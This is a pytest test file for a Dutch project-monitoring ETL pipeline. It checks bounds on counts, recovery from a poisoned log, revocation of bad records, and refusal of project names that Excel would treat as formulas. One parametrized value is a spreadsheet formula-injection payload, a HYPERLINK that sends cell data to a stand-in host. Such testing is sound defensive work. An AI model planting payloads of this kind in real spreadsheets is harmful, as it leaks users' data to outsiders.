"""The monitor under bad and hostile input (issue 17): bounded counts and targets on every way in, a log
that cannot be poisoned (and a build that survives a bad record already in it, with a way to revoke it),
names that would be formulas, oversized workbooks, and uploads that carry the revision they were based on."""
from __future__ import annotations

import hashlib
import json
import logging

import duckdb
import pytest

from etl.build import build
from etl.monitor import __main__ as cli
from tests.test_monitor import KOP, TWEE_PROJECTEN, VANDAAG, afgewezen, importeer, ingevuld, log_bytes
from werkenaanwerk import invoer, opslag, validatie

BLAD = "monitor.xlsx, blad 'Resultaten'"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


# --- bounds on every way in ------------------------------------------------------------------------------

@pytest.mark.parametrize("waarde, stuk", [
    (10**20, "is niet aannemelijk; verwacht een heel getal van 0 tot en met 10.000"),
    ("12345678901234567890", "'12345678901234567890' is veel te groot; verwacht een heel getal van 0 tot en met "
                             "10.000"),
    (10_001, "10.001 is niet aannemelijk"),
    ("2.000", "'2.000' is dubbelzinnig (duizendtal of decimaal?)"),
    ("1e400", "'1e400' is geen heel getal"),
    ("²", "'²' is geen heel getal"),
    ("inf", "'inf' is geen heel getal"),
])
def test_an_implausible_count_in_a_workbook_is_refused_and_nothing_stored(raw_dir, waarde, stuk):
    voor = sha(log_bytes())
    fouten = afgewezen(ingevuld([["Zorgstart", "2024-Q1", 10, waarde, 0, 0, 0, 5]]))
    assert len(fouten) == 1 and fouten[0].startswith(f"{BLAD}, regel 2, kolom 'Gestart': "), fouten
    assert stuk in fouten[0]
    assert sha(log_bytes()) == voor


def test_the_upper_bound_itself_is_accepted(raw_dir):
    importeer(ingevuld([["Zorgstart", "2024-Q1", 10_000, 10_000, 0, 0, 0, 10_000]]))
    assert opslag.huidige_resultaten(opslag.lees())[("zorgstart", "2024-Q1")]["gestart"] == 10_000


def test_a_20_digit_count_in_a_csv_and_in_the_table_is_refused(raw_dir):
    kop = ",".join(KOP) + ",Revisie (niet wijzigen)\n"
    fouten = afgewezen((kop + "Zorgstart,2024-Q1,1,99999999999999999999,0,0,0,1,0\n").encode(), "monitor.csv")
    assert fouten == ["monitor.csv, regel 2, kolom 'Gestart': '99999999999999999999' is veel te groot; verwacht een "
                      "heel getal van 0 tot en met 10.000"]
    with pytest.raises(invoer.InvoerFout) as exc:
        invoer.corrigeer("zorgstart", [{"kwartaal": "2024-Q1", "gestart": 1e20}], 0, "Piet", vandaag=VANDAAG)
    assert "is niet aannemelijk" in exc.value.fouten[0].melding
    with pytest.raises(invoer.InvoerFout) as exc:  # openpyxl cannot write inf; the table editor can send it
        invoer.corrigeer("zorgstart", [{"kwartaal": "2024-Q1", "gestart": float("inf")}], 0, "Piet", vandaag=VANDAAG)
    assert exc.value.fouten[0].melding == "'inf' is geen aantal; verwacht een heel getal van 0 tot en met 10.000"
    assert log_bytes() == b""


def test_a_20_digit_target_on_the_form_is_refused_and_nothing_stored(raw_dir):
    with pytest.raises(invoer.InvoerFout) as exc:
        invoer.wijzig_project("zorgstart", {"doel_deelnemers": "12345678901234567890", "doel_periode": "per jaar"},
                              "Annette", 0, vandaag=VANDAAG)
    assert [f.tekst() for f in exc.value.fouten] == [
        "projectgegevens, kolom 'doel_deelnemers': '12345678901234567890' is veel te groot; verwacht een heel getal "
        "van 0 tot en met 10.000"]
    assert log_bytes() == b""


def test_the_last_check_before_the_log_stops_a_caller_that_skipped_validation(raw_dir):
    with pytest.raises(invoer.InvoerFout) as exc:
        invoer._voor_opslaan([{"soort": "resultaat", "project_id": "zorgstart", "kwartaal": "2024-Q1",
                               "gestart": 10**20}])
    assert "veld 'gestart'" in exc.value.fouten[0].melding
    assert log_bytes() == b""


# --- a bad record already in the log ---------------------------------------------------------------------

def _vergiftigd(raw_dir) -> int:
    """Two good saves, then a record with a 20-digit count appended by hand (as an older version let
    through), committed like a real save. Returns its volgnummer."""
    importeer(ingevuld(TWEE_PROJECTEN))
    n = opslag.laatste_volgnummer() + 1
    rec = {"soort": "resultaat", "project_id": "zorgstart", "kwartaal": "2024-Q3", "aangemeld": 1,
           "gestart": 12345678901234567890, "uitgevallen": 0, "uitstroom_werk": 0, "uitstroom_opleiding": 0,
           "nog_in_traject": 1, "wijziging": "hand", "volgnummer": n, "tijdstip": "2026-11-20T10:00:00+00:00",
           "door": "Iemand", "via": "met de hand", "revisie": 2}
    with open(opslag.log_pad(), "a", encoding="utf-8") as fh:
        fh.write(json.dumps(rec) + "\n" + json.dumps({"soort": "commit", "wijziging": "hand", "rijen": 1}) + "\n")
        fh.write("{dit is geen json\n")
    return n


def test_a_build_over_a_poisoned_log_reports_the_record_and_still_builds(raw_dir, warehouse_path, caplog):
    n = _vergiftigd(raw_dir)
    regel = log_bytes().decode().split("\n").index(next(r for r in log_bytes().decode().split("\n")
                                                        if '"wijziging": "hand", "volgnummer"' in r)) + 1
    with caplog.at_level(logging.WARNING, logger="etl.load"):
        build(raw_dir, warehouse_path)
    gemeld = [r.getMessage() for r in caplog.records]
    assert any(f"mutaties.jsonl, regel {regel}: record {n} (resultaat, project zorgstart) overgeslagen: veld "
               "'gestart': 12345678901234567890 is niet aannemelijk" in m for m in gemeld), gemeld
    assert any(f"mutaties.jsonl, regel {regel + 2}: geen leesbaar record" in m for m in gemeld), gemeld
    con = duckdb.connect(str(warehouse_path), read_only=True)
    assert con.execute("select count(*) from marts.monitor_resultaten").fetchone() == (4,)
    assert con.execute("select regel from marts.monitor_afgekeurd order by regel").fetchall() == [
        (regel,), (regel + 2,)]
    # the skipped record still counts for the project's revision: the page's next save is not refused
    assert con.execute("select revisie from marts.monitor_projecten where project_id = 'zorgstart'").fetchone() == (2,)
    con.close()
    # and the input side ignores it too: a save on zorgstart based on the revision the page shows works
    invoer.corrigeer("zorgstart", [{"kwartaal": "2024-Q1", "aangemeld": 10, "gestart": 8, "uitgevallen": 1,
                                    "uitstroom_werk": 2, "uitstroom_opleiding": 0, "nog_in_traject": 5},
                                   {"kwartaal": "2024-Q2", "aangemeld": 6, "gestart": 5, "uitgevallen": 0,
                                    "uitstroom_werk": 3, "uitstroom_opleiding": 1, "nog_in_traject": 7}],
                     2, "Piet", vandaag=VANDAAG)


def test_a_bad_record_is_revoked_through_the_cli_and_then_no_longer_reported(raw_dir, warehouse_path, capsys):
    n = _vergiftigd(raw_dir)
    assert cli.main(["log-controleren"]) == 1
    uit = capsys.readouterr().out
    assert f"record {n} (resultaat, project zorgstart) overgeslagen" in uit
    assert f"python -m etl.monitor herroep {n} --door NAAM" in uit
    # a valid record cannot be revoked, an unknown one neither; nothing is stored then
    voor = log_bytes()
    assert cli.main(["herroep", "1", "--door", "Piet"]) == 1
    assert "record 1 is in orde en kan niet worden herroepen" in capsys.readouterr().err
    assert cli.main(["herroep", "999", "--door", "Piet"]) == 1
    assert log_bytes() == voor
    assert cli.main(["herroep", str(n), "--door", "Piet"]) == 0
    assert f"Record {n} (project zorgstart) herroepen" in capsys.readouterr().out
    assert cli.main(["herroep", str(n), "--door", "Piet"]) == 1
    assert "al herroepen" in capsys.readouterr().err
    # the log grew by a revoking record; nothing in it was rewritten
    assert log_bytes().startswith(voor)
    _, fouten = validatie.controleer_log()
    assert [f.melding for f in fouten] == ["geen leesbaar record (geen JSON-object met soort en wijziging); "
                                           "overgeslagen"]
    build(raw_dir, warehouse_path)
    con = duckdb.connect(str(warehouse_path), read_only=True)
    assert con.execute("select count(*) from marts.monitor_afgekeurd").fetchone() == (1,)
    assert con.execute("select count(*) from marts.monitor_resultaten").fetchone() == (4,)
    # the right figure is then entered the ordinary way
    con.close()
    rev = opslag.revisies(opslag.lees())["zorgstart"]
    invoer.corrigeer("zorgstart", [
        {"kwartaal": "2024-Q1", "aangemeld": 10, "gestart": 8, "uitgevallen": 1, "uitstroom_werk": 2,
         "uitstroom_opleiding": 0, "nog_in_traject": 5},
        {"kwartaal": "2024-Q2", "aangemeld": 6, "gestart": 5, "uitgevallen": 0, "uitstroom_werk": 3,
         "uitstroom_opleiding": 1, "nog_in_traject": 6},
        {"kwartaal": "2024-Q3", "aangemeld": 1, "gestart": 1, "uitgevallen": 0, "uitstroom_werk": 0,
         "uitstroom_opleiding": 0, "nog_in_traject": 7}], rev, "Piet", vandaag=VANDAAG)
    build(raw_dir, warehouse_path)
    con = duckdb.connect(str(warehouse_path), read_only=True)
    assert con.execute("select gestart from marts.monitor_resultaten where project_id = 'zorgstart' "
                       "and kwartaal = '2024-Q3'").fetchone() == (1,)


# --- names that would be formulas ------------------------------------------------------------------------

@pytest.mark.parametrize("naam, teken", [('=HYPERLINK("https://x.example?d="&A1,"Zorg")', "'='"),
                                         ("+31 project", "'+'"), ("-project", "'-'"), ("@project", "'@'")])
def test_a_project_name_that_is_a_formula_is_refused(raw_dir, naam, teken):
    with pytest.raises(invoer.InvoerFout) as exc:
        invoer.wijzig_project(None, {"naam": naam, "regio": "AM12"}, "Annette", 0, vandaag=VANDAAG)
    assert [f.tekst() for f in exc.value.fouten] == [
        f"projectgegevens, kolom 'naam': een projectnaam mag niet beginnen met {teken}: in Excel wordt zo'n naam "
        "een formule. Begin de naam met een letter of cijfer"]
    assert log_bytes() == b""
